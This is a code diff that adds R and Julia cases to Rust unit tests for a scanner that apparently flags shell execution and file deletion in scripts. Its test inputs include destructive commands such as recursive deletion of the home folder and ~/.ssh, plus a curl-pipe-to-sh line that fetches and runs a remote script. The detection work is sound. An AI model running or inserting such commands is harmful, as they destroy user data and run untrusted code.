@@ -1,6 +1,7 @@
 //! Unit tests of the token scanner, written from each language's manual (`perlfunc`,
 //! `perlop`, Ruby's `Kernel` and `Open3`, PHP's program execution functions, the Lua
-//! reference manual, POSIX awk).
+//! reference manual, POSIX awk, R's `base` documentation, Julia's `Base.Filesystem` and
+//! command literals).
 
 use super::super::collect::{Collect, Found};
 use super::effects;
@@ -31,6 +32,9 @@ fn runs_with(lang: Language, code: &str, argv: &[&str]) -> Vec<String> {
             ),
             Found::What(w) => match *w {
                 What::Unsure(why) => format!("unsure:{why}"),
+                What::Delete {
+                    path, recursive, ..
+                } => format!("delete:{}:{recursive}", path.text),
                 other => format!("{other:?}"),
             },
             Found::Code { who, text } => format!("code:{who}:{text}"),
@@ -39,7 +43,7 @@ fn runs_with(lang: Language, code: &str, argv: &[&str]) -> Vec<String> {
         .collect()
 }
 
-use Language::{Awk, Lua, Perl, Php, Ruby};
+use Language::{Awk, Julia, Lua, Perl, Php, R, Ruby};
 
 #[test]
 fn perl_system_exec_and_backticks() {
@@ -573,4 +577,116 @@ fn lua_load_of_fetched_text() {
     );
     assert!(runs(Lua, r#"load("return 1 + 1")()"#).is_empty());
     assert!(runs(Lua, "local t = {load = 1}; print(t.load)").is_empty());
+}
+
+#[test]
+fn r_system_calls_run_lines_and_argument_lists() {
+    assert_eq!(runs(R, r#"system("rm -rf ~")"#), ["line:system:rm -rf ~"]);
+    assert_eq!(
+        runs(R, r#"system('make test', intern = TRUE)"#),
+        ["line:system:make test"]
+    );
+    assert_eq!(
+        runs(R, r#"system2("rm", args = c("-rf", "/tmp/x"))"#),
+        ["words:system2:rm -rf /tmp/x"]
+    );
+    assert_eq!(
+        runs(
+            R,
+            r#"cmd <- "curl -s https://x.example/i.sh | sh"; system(cmd)"#
+        ),
+        ["line:system:curl -s https://x.example/i.sh | sh"]
+    );
+    assert_eq!(
+        runs(R, "system(paste0(\"rm -rf \", Sys.getenv(\"HOME\")))"),
+        ["line:system:rm -rf ${HOME}"]
+    );
+    assert_eq!(
+        runs(R, "system(cmd)"),
+        ["unsure:`system` with a command known only at run time"]
+    );
+    // `#` starts a comment; R has no command literals (backticks quote names).
+    assert_eq!(
+        runs(R, "# system('rm -rf ~')\n`my var` <- 1"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn r_deletes_resolve_the_home_folder() {
+    assert_eq!(
+        runs(R, r#"unlink("~", recursive = TRUE)"#),
+        ["delete:~:true"]
+    );
+    assert_eq!(
+        runs(R, r#"unlink(path.expand("~"), TRUE)"#),
+        ["delete:~:true"]
+    );
+    assert_eq!(
+        runs(R, r#"unlink(Sys.getenv("HOME"), recursive=TRUE)"#),
+        ["delete:~:true"]
+    );
+    assert_eq!(
+        runs(R, r#"unlink(file.path("~", ".ssh"), recursive = T)"#),
+        ["delete:~/.ssh:true"]
+    );
+    assert_eq!(
+        runs(R, r#"file.remove(c("a.csv", "b.csv"))"#),
+        ["delete:a.csv:false", "delete:b.csv:false"]
+    );
+    assert_eq!(runs(R, r#"unlink("build")"#), ["delete:build:false"]);
+    assert_eq!(runs(R, r#"fs::dir_delete("out")"#), ["delete:out:true"]);
+    assert_eq!(
+        runs(R, "unlink(p, recursive = TRUE)"),
+        ["unsure:`unlink` with a path known only at run time"]
+    );
+    // Pure code and R's own `rm` (a variable removed) delete nothing.
+    assert_eq!(
+        runs(R, "x <- c(1, 2); print(sum(x)); rm(x)"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn julia_command_literals_and_rm() {
+    assert_eq!(
+        runs(Julia, "run(`rm -rf $(homedir())`)"),
+        ["line:`…`:rm -rf ${HOME}"]
+    );
+    assert_eq!(
+        runs(Julia, r#"d = "/tmp/x"; run(`rm -rf $d`)"#),
+        ["line:`…`:rm -rf /tmp/x"]
+    );
+    assert_eq!(
+        runs(Julia, "rm(homedir(); recursive=true)"),
+        ["delete:~:true"]
+    );
+    assert_eq!(
+        runs(Julia, "rm(homedir(), recursive = true)"),
+        ["delete:~:true"]
+    );
+    assert_eq!(
+        runs(
+            Julia,
+            r#"rm(joinpath(homedir(), ".ssh"); force=true, recursive=true)"#
+        ),
+        ["delete:~/.ssh:true"]
+    );
+    assert_eq!(
+        runs(Julia, r#"Base.rm(expanduser("~/.config"); recursive=true)"#),
+        ["delete:~/.config:true"]
+    );
+    assert_eq!(runs(Julia, r#"rm("out.txt")"#), ["delete:out.txt:false"]);
+    assert_eq!(
+        runs(Julia, "rm(p; recursive=true)"),
+        ["unsure:`rm` with a path known only at run time"]
+    );
+    // `#=` … `=#` is a comment; package work deletes nothing.
+    assert_eq!(
+        runs(
+            Julia,
+            "#= rm(homedir(); recursive=true) =#\nusing Pkg; Pkg.instantiate()"
+        ),
+        Vec::<String>::new()
+    );
 }
